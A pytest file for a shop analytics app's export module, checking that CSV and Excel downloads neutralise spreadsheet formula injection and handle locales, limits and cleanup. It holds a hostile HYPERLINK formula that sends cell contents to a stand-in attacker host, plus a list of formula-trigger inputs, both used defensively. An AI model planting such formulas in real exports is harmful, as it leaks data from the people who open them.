"""What is taken away: every table as CSV, Excel, Parquet or JSON, and nothing in it that works."""

import csv
import re
from contextlib import closing
from datetime import date
from io import BufferedReader, BytesIO, StringIO
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from streamlit.runtime.download_data_util import convert_data_to_bytes_and_infer_mime

from analytics import downloads
from analytics.access import MANAGER
from analytics.downloads import Column, inert
from analytics.filters import Filters
from analytics.paging import log_page
from analytics.store import Store

EVERYTHING = Filters(first=date(1970, 1, 1), last=date(2199, 12, 31), scope=MANAGER, version=0)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"Åpne")'


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        HOSTILE,
        "=?utf-8?Q?Ordre_1001?=",
        "@SUM(A1:A9)",
        "+47 12 34 56 78",
        "+tag@kunde.example",
        "- 20 % på alt garn",
        "-2+3",
        "--2",
        "-",
        "-1e5",
        "\t=1+1",
        "\r=1+1",
        "\0=1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{FULLWIDTH PLUS SIGN}1",
        "\N{FULLWIDTH HYPHEN-MINUS}1",
        "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    ],
)
def test_a_text_that_could_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "-2",
        "-2,50",
        "+4712345678",
        "kari@kunde.example",
        "Ordre 1001 = betalt",
        "2026-01-05",
        "",
        "Hei;=1+1",
        '"=1+1"',
        "Hei\n=1+1",
        " =1+1",
    ],
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@given(st.text())
def test_no_text_starts_a_formula_unless_it_is_a_number(text: str) -> None:
    written = inert(text)
    assert (
        not written
        or written[0] not in downloads.DANGEROUS
        or re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", written)
    )


def written(store: Store, sheet: downloads.Sheet, language: str, kind: str = "csv") -> bytes:
    with closing(downloads.written(sheet, kind, store.folder("temp"), language)) as file:
        return file.read()


def rows_of(store: Store, filters: Filters, language: str, kind: str = "csv") -> bytes:
    return written(store, downloads.messages(store, filters, language, {}), language, kind)


@pytest.mark.parametrize(("language", "separator"), [("nb", ";"), ("en", ",")])
def test_a_spreadsheet_gets_its_separator_its_mark_and_its_words(
    store: Store, language: str, separator: str
) -> None:
    content = rows_of(store, EVERYTHING, language)
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(csv.DictReader(StringIO(content.decode("utf-8-sig")), delimiter=separator))
    assert len(read) == 5_760
    assert len(read[0]) == len(downloads.MESSAGES)
    assert any("Europe/Oslo" in heading for heading in read[0])
    assert not {"delivered", "failed"} & {cell for row in read[:500] for cell in row.values()}


def test_times_are_the_shops_clock_and_the_newest_comes_first(store: Store) -> None:
    # Not the night when the clock is put back, whose hour comes twice.
    chosen = EVERYTHING.narrowed(first=date(2026, 10, 27), last=date(2026, 10, 31))
    content = rows_of(store, chosen, "en").decode("utf-8-sig")
    times = [row["Sent (Europe/Oslo)"] for row in csv.DictReader(StringIO(content))]
    newest = log_page(store.ask, chosen, rows=1, skipped=0).rows["sent_at"].iloc[0]
    assert times[0] == newest.strftime("%Y-%m-%d %H:%M:%S")
    assert times == sorted(times, reverse=True)


def test_exactly_what_is_selected_is_downloaded(store: Store) -> None:
    chosen = EVERYTHING.narrowed(outcomes=("failed",))
    lines = rows_of(store, chosen, "en").decode("utf-8-sig").splitlines()
    counted = store.ask("count_totals", chosen)["emails"].iloc[0]
    assert len(lines) == counted + 1


def test_the_last_answer_is_one_answer_and_not_the_best_of_several(store: Store) -> None:
    with store.change() as cursor:
        cursor.execute(
            "INSERT INTO error_log BY NAME FROM error_log SELECT * REPLACE "
            "(answered_at + INTERVAL 1 DAY AS answered_at, NULL AS reply_code, "
            "NULL AS enhanced_code, 'mailbox asleep' AS diagnostic, 'other' AS cause)"
        )
    chosen = EVERYTHING.narrowed(outcomes=("failed",))
    content = rows_of(store, chosen, "en").decode("utf-8-sig")
    last = ("Last reply code", "Last status code", "The server's last answer")
    rows = [tuple(row[name] for name in last) for row in csv.DictReader(StringIO(content))]
    assert set(rows) == {("", "", "mailbox asleep")}
    with store.change() as cursor:
        cursor.execute("UPDATE error_log SET diagnostic = NULL WHERE cause = 'other'")
    burst = {"started": EVERYTHING.since, "ended": EVERYTHING.until, "rows": 9}
    said = store.ask("burst_answers", EVERYTHING, shop="Garn", **burst)
    assert list(said["cause"]) == ["other"]
    assert list(said["template"]) == [""]


def test_a_hostile_subject_is_inert_in_the_file(store: Store) -> None:
    with store.change() as cursor:
        cursor.execute("UPDATE messages SET subject = $subject", {"subject": HOSTILE})
    content = rows_of(store, EVERYTHING, "nb").decode("utf-8-sig")
    assert '"\'=HYPERLINK(""https' in content
    assert ";=HYPERLINK" not in content
    assert ';"=HYPERLINK' not in content


def test_nothing_of_a_download_stays_on_the_disk(store: Store) -> None:
    before = set(store.folder("temp").iterdir())
    rows_of(store, EVERYTHING, "en")
    assert set(store.folder("temp").iterdir()) == before


def test_rejected_rows_are_downloaded_with_their_line_and_why(store: Store) -> None:
    with store.change() as cursor:
        cursor.execute("DELETE FROM rejected_rows")
        cursor.execute("DELETE FROM imports")
        cursor.execute(
            "INSERT INTO imports BY NAME SELECT 7 AS batch, 'a.csv' AS file, '' AS sha256, "
            "1 AS bytes, 'norwegian' AS format, 'Nordlys Garn' AS shop, 'Europe/Oslo' AS timezone, "
            "TIMESTAMP '2026-11-24' AS imported_at, 1 AS seconds, 1 AS rows, 0 AS messages, "
            "0 AS new, 0 AS updated, 0 AS unchanged, 1 AS rejected"
        )
        cursor.execute(
            "INSERT INTO rejected_rows VALUES (7, 4, 'bad_time', '31.02.2026', '=1+1;Hei')"
        )
    content = written(store, downloads.rejected(store, EVERYTHING, 7, "en"), "en")
    read = list(csv.DictReader(StringIO(content.decode("utf-8-sig"))))
    assert [row["Line"] for row in read] == ["4"]
    assert read[0]["The line"] == "'=1+1;Hei"
    assert "time" in read[0]["Why it was rejected"]


def cells(book: bytes) -> Any:
    """Return the texts of a spreadsheet, row by row; a formula would have another element."""
    with ZipFile(BytesIO(book)) as parts:
        sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(sheet.iter(f"{space}f"))
    return [
        ["".join(cell.itertext()) for cell in row.iter(f"{space}c")]
        for row in sheet.iter(f"{space}row")
    ]


def test_a_spreadsheet_file_holds_the_same_rows_without_formulas(store: Store) -> None:
    with store.change() as cursor:
        cursor.execute("UPDATE messages SET subject = $subject", {"subject": HOSTILE})
    chosen = EVERYTHING.narrowed(outcomes=("failed",))
    heading, *rows = cells(rows_of(store, chosen, "nb", "xlsx"))
    assert len(rows) == store.ask("count_totals", chosen)["emails"].iloc[0]
    assert {row[heading.index("Emne")] for row in rows} == {f"'{HOSTILE}"}
    assert {row[heading.index("Utfall")] for row in rows} == {"Feilet"}


def test_of_a_text_too_long_for_a_cell_its_beginning_is_marked_as_one(store: Store) -> None:
    frame = pd.DataFrame({"answer": ["x" * downloads.MOST_IN_CELL, "y" * 40_000]})
    sheet = downloads.of_frame(frame, {"answer": Column("Answer")})
    _heading, (whole,), (begun,) = cells(written(store, sheet, "en", "xlsx"))
    assert whole == "x" * downloads.MOST_IN_CELL
    assert begun == "y" * (downloads.MOST_IN_CELL - 1) + "…"
    assert "y" * 40_000 in written(store, sheet, "en", "csv").decode()


@pytest.mark.parametrize(
    ("rows", "kinds"),
    [
        (downloads.MOST_IN_EXCEL, ("csv", "xlsx", "parquet")),
        (downloads.MOST_IN_EXCEL + 1, ("csv", "parquet")),
        (downloads.MOST_ROWS, ("csv", "parquet")),
        (downloads.MOST_ROWS + 1, ("parquet",)),
    ],
)
def test_no_file_is_offered_that_a_browser_or_a_spreadsheet_gives_up_on(
    rows: int, kinds: tuple[str, ...]
) -> None:
    assert downloads.kinds_for(rows) == kinds


def test_parquet_holds_the_logs_own_codes(store: Store) -> None:
    chosen = EVERYTHING.narrowed(outcomes=("failed",))
    table = pq.read_table(BytesIO(rows_of(store, chosen, "nb", "parquet")))
    assert table.column_names == list(downloads.MESSAGES)
    assert table.num_rows == store.ask("count_totals", chosen)["emails"].iloc[0]
    assert set(table["outcome"].to_pylist()) == {"failed"}
    nothing = EVERYTHING.narrowed(last=date(1970, 1, 2))
    assert pq.read_table(BytesIO(rows_of(store, nothing, "nb", "parquet"))).num_rows == 0


@pytest.mark.parametrize(
    ("language", "line"), [("nb", "0,25;2026-10-31"), ("en", "0.25,2026-10-31")]
)
def test_a_frame_is_written_in_the_readers_locale(store: Store, language: str, line: str) -> None:
    frame = pd.DataFrame({"rate": [0.25], "day": [date(2026, 10, 31)], "hidden": ["k@x.example"]})
    sheet = downloads.of_frame(frame, {"rate": Column("Rate"), "day": Column("Day")})
    assert written(store, sheet, language).decode("utf-8-sig").splitlines()[1] == line


def test_a_download_is_a_file_that_streamlit_can_serve(store: Store) -> None:
    sheet = downloads.messages(store, EVERYTHING, "en", {})
    with closing(downloads.written(sheet, "csv", store.folder("temp"), "en")) as file:
        assert isinstance(file, BufferedReader)
        served, _mime = convert_data_to_bytes_and_infer_mime(file, TypeError())
    assert served.startswith(b"\xef\xbb\xbf")
